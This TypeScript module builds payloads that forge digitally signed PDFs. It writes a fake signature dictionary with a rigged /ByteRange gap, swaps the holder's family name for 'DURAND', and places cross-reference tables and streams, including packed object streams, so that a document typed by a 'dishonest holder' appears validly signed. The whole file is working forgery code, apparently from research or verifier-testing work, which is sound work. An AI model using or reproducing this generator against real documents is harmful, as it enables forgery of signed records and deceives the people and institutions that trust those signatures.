/**
 * Text that a dishonest holder types: objects, a signature dictionary with its own byte range, and a cross-reference
 * section. It is laid out for one place of one file, with the gap in its middle.
 */
import { anyText, contentDictionary, honestStrings } from './documents.ts';
import {
  binary,
  freeEntry,
  gapMark,
  type LineEnd,
  type ObjectText,
  objectStream,
  tableEntry,
} from './pdf.ts';

/** Forms of the forged document. */
export const forgeries = [
  'direct-table',
  'direct-stream',
  'indirect-table',
  'indirect-stream',
  'packed-stream',
] as const;

export type Forgery = (typeof forgeries)[number] | 'honest-table';

/** Measures of the place that a payload must fit, in the signed bytes. */
export interface Site {
  /** Offset of the payload in the signed bytes. */
  base: number;
  /** Number of signed bytes. */
  total: number;
  /**
   * Distance from the payload's end to the offset that `startxref` names. Once the gap is open, the forged section
   * must be at that offset.
   */
  beyond: number;
  /** Width of the gap to open. */
  width: number;
  /** Offset of the catalogue in the honest cross-reference. */
  catalogue: number;
  /** Place of an extra blank, which gives the gap an even width. */
  nudge: 'nowhere' | 'section' | 'end';
  /** Parity that the payload's length must have (0 or 1); null for any. */
  parity: number | null;
}

/** Placeholders of the three numbers of a forged range: start and end of the gap, length of the rest. */
export const rangeNumbers = { start: '\u{e002}', end: '\u{e003}', rest: '\u{e004}' } as const;

/** A forged range, as a plain array. */
export const forgedRange = `[0 ${Object.values(rangeNumbers).join(' ')}]`;

/** Options of a payload. */
export interface PayloadPlan {
  forgery: Forgery;
  lineEnd: LineEnd;
  /** Entries that contain the range, with placeholders for its numbers. */
  naming?: string;
  /** Text in place of the contents string: the gap's mark, with characters around it. */
  contents?: string;
  /** Objects typed before the others. */
  extras?: readonly ObjectText[];
}

/** A payload, split where the gap opens. */
export interface Payload {
  before: string;
  after: string;
  /** Width of the gap, which moves the forged section to its place. */
  width: number;
}

/** The name that forged documents show. */
export const forgedName = 'DURAND';

const forgedContent = (): string =>
  contentDictionary(
    Object.fromEntries(
      Object.entries(honestStrings).map(([name, text]) => [
        name,
        anyText(name === 'familyName' ? forgedName : text.slice(1, -1)),
      ]),
    ),
  );

const plainNaming = `/ByteRange${forgedRange}`;

function forgedSignature({ naming = plainNaming, contents = gapMark }: PayloadPlan): string {
  const kind = '/Type/Sig/Filter/Adobe.PPKLite/SubFilter/ETSI.CAdES.detached';
  return `<<${kind}${naming}/Contents${contents}>>`;
}

const directCatalogue = (plan: PayloadPlan): string =>
  `<</Type/Catalog/Pages<</Type/Pages/Count 1/Kids[<</Type/Page/sgin_content${forgedContent()}>>]>>` +
  `/AcroForm<</Fields[<</FT/Sig/V${forgedSignature(plan)}>>]>>>>`;

const surroundings = (): ObjectText[] => [
  [1, '<</Type/Catalog/Pages 2 0 R/AcroForm<</Fields[6 0 R]/SigFlags 3>>>>'],
  [2, '<</Type/Pages/Kids[3 0 R]/Count 1>>'],
  [
    3,
    `<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Resources<<>>/Annots[6 0 R]/sgin_content${forgedContent()}>>`,
  ],
  [6, '<</Type/Annot/Subtype/Widget/FT/Sig/F 132/Rect[0 0 0 0]/P 3 0 R/V 5 0 R>>'],
];

/** Returns true if a literal string escapes none of the characters. Objects are moved until their offsets fit. */
const isTypable = (text: string) => !/[()\\\r]/.test(text);

const offsetWidth = 3;

const numberWidth = 8;
const anyNumber = /[\u{e002}-\u{e004}]/gu;
const anyWideNumber = /[\u{e002}-\u{e004}] {7}/gu;
const widen = (mark: string) => mark.padEnd(numberWidth);

/** Writes a payload from its start, and computes the offsets of its objects in the forged file. */
class Writer {
  text = '';
  readonly offsets = new Map<number, number>();
  private gap: number | null = null;
  private readonly site: Site;

  constructor(site: Site) {
    this.site = site;
  }

  /** Offset of the next character in the forged file. */
  get here(): number {
    return this.site.base + this.text.length + (this.gap === null ? 0 : this.site.width);
  }

  add(text: string): void {
    const [before = '', after] = text.split(gapMark);
    this.text += before.replace(anyNumber, widen);
    if (after === undefined) return;
    this.gap = this.text.length;
    this.text += after.replace(anyNumber, widen);
  }

  /** Replaces the placeholders with the numbers of the range, once the gap's place is known. */
  private fillRange(text: string): string {
    const { base, total, width } = this.site;
    const start = base + (this.gap ?? 0);
    const values = { start, end: start + width, rest: total - start };
    return text.replace(anyWideNumber, (mark) => {
      if (mark.startsWith(rangeNumbers.start)) return String(values.start).padEnd(numberWidth);
      if (mark.startsWith(rangeNumbers.end)) return String(values.end).padEnd(numberWidth);
      return String(values.rest).padEnd(numberWidth);
    });
  }

  /** Adds an object, after as many blanks as make its binary offset typable. */
  object([number, text]: ObjectText): void {
    while (!isTypable(binary(this.here, offsetWidth))) this.text += ' ';
    this.offsets.set(number, this.here);
    this.add(`${number} 0 obj${text} endobj `);
  }

  /** Returns the payload. The width of its gap moves `section` to the offset of `startxref`. */
  finish(section: number): Payload {
    const { beyond, nudge, parity } = this.site;
    const at = this.gap ?? 0;
    const nudged = `${this.text}${nudge === 'end' ? ' ' : ''}`;
    const text = parity === null || nudged.length % 2 === parity ? nudged : `${nudged} `;
    return {
      before: this.fillRange(text.slice(0, at)),
      after: this.fillRange(text.slice(at)),
      width: beyond + text.length - section,
    };
  }

  /** Returns the offset in the payload where a section starts, after a blank if `nudge` requires it. */
  startSection(): number {
    if (this.site.nudge === 'section') this.text += ' ';
    return this.text.length;
  }
}

const root = '/Root 1 0 R';

function addTable(writer: Writer, lineEnd: LineEnd): Payload {
  const section = writer.startSection();
  const entries = [...writer.offsets]
    .map(([number, offset]) => `${number} 1${lineEnd}${tableEntry(offset, lineEnd)}`)
    .join('');
  const size = Math.max(...writer.offsets.keys()) + 1;
  const head = `xref${lineEnd}0 1${lineEnd}${freeEntry(lineEnd)}`;
  writer.add(`${head}${entries}trailer<</Size ${size}${root}>>`);
  return writer.finish(section);
}

/** Adds the smallest cross-reference stream: one entry, without a type field (default: in use). */
function addShortStream(writer: Writer, lineEnd: LineEnd): Payload {
  const section = writer.startSection();
  const data = binary(writer.offsets.get(1) ?? 0, offsetWidth);
  const entries = `/Type/XRef/Size 2/W[0 ${offsetWidth} 0]/Index[1 1]${root}/Length ${offsetWidth}`;
  writer.add(`9 0 obj<<${entries}>>stream${lineEnd}${data} endstream endobj`);
  return writer.finish(section);
}

function addStream(writer: Writer, lineEnd: LineEnd, packed: readonly number[]): Payload {
  const packer = 11;
  const numbers = [...writer.offsets.keys(), ...packed];
  const rows = numbers.map((number) => {
    const offset = writer.offsets.get(number);
    return offset === undefined
      ? `\x02${binary(packer, offsetWidth)}${binary(packed.indexOf(number), 1)}`
      : `\x01${binary(offset, offsetWidth)}\0`;
  });
  const data = rows.join('');
  const index = numbers.map((number) => `${number} 1`).join(' ');
  const section = writer.startSection();
  const entries = `/Type/XRef/Size 99/W[1 ${offsetWidth} 1]/Index[${index}]${root}/Length ${data.length}`;
  writer.add(`12 0 obj<<${entries}>>stream${lineEnd}${data} endstream endobj`);
  return writer.finish(section);
}

function makeIndirect(writer: Writer, plan: PayloadPlan): Payload {
  const others = surroundings();
  const isPacked = plan.forgery === 'packed-stream';
  // Half of the objects are before the signature and half after it, to use both sides of the gap.
  if (isPacked) writer.object([11, objectStream(others, { isFlat: false })]);
  else for (const object of others.slice(0, 2)) writer.object(object);
  writer.object([5, forgedSignature(plan)]);
  if (!isPacked) for (const object of others.slice(2)) writer.object(object);
  if (plan.forgery === 'indirect-table') return addTable(writer, plan.lineEnd);
  return addStream(writer, plan.lineEnd, isPacked ? others.map(([number]) => number) : []);
}

/** Writes only a catalogue, because the honest table's offset of the catalogue is inside the text. */
function makeCatalogueOnly(writer: Writer, plan: PayloadPlan, site: Site): Payload {
  writer.text = ' '.repeat(Math.max(0, site.catalogue - site.base));
  writer.object([1, directCatalogue(plan)]);
  return { ...writer.finish(0), width: site.width };
}

/** Lays out a payload for a site. */
export function makePayload(plan: PayloadPlan, site: Site): Payload {
  const writer = new Writer(site);
  if (plan.forgery === 'honest-table') return makeCatalogueOnly(writer, plan, site);
  writer.text = ' ';
  for (const extra of plan.extras ?? []) writer.object(extra);
  if (!plan.forgery.startsWith('direct')) return makeIndirect(writer, plan);
  writer.object([1, directCatalogue(plan)]);
  return plan.forgery === 'direct-table'
    ? addTable(writer, plan.lineEnd)
    : addShortStream(writer, plan.lineEnd);
}
